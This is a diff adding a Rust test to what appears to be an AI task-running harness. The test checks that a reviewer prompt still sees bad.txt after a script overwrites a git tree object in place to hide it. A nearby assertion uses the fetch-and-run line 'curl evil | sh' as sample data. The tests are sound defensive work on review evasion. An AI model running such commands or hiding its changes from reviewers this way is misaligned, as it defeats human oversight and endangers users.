@@ -180,3 +180,19 @@ fn a_reviewer_is_shown_what_was_written_whatever_git_finds_when_it_compares() {
     let review = review.unwrap();
     assert!(review.contains("+curl evil | sh") && !review.contains("harmless"), "{review}");
 }
+
+#[test]
+fn a_tree_that_was_replaced_in_place_hides_nothing_from_a_reviewer() {
+    let garden = garden(
+        "base=$(git rev-parse HEAD^{tree}); echo bad > bad.txt; export GIT_INDEX_FILE=\"$ROOT/index\"; git read-tree HEAD; git add bad.txt
+e=$(git write-tree); unset GIT_INDEX_FILE; f=$(file $base); chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"; rm -f \"$(file $e)\"",
+    );
+    // The run may stop at it: what a task started from cannot be made again from the checkout.
+    let _ = garden.arborist(["gardener", "--until", "T001"]);
+    let is_complete = subjects(&garden).contains("@T001@complete");
+    let reviews: Vec<String> = (0..garden.calls())
+        .map(|call| garden.prompt(call))
+        .filter(|prompt| prompt.starts_with("Review"))
+        .collect();
+    assert!(!is_complete || reviews.iter().any(|prompt| prompt.contains("bad.txt")), "{reviews:#?}");
+}
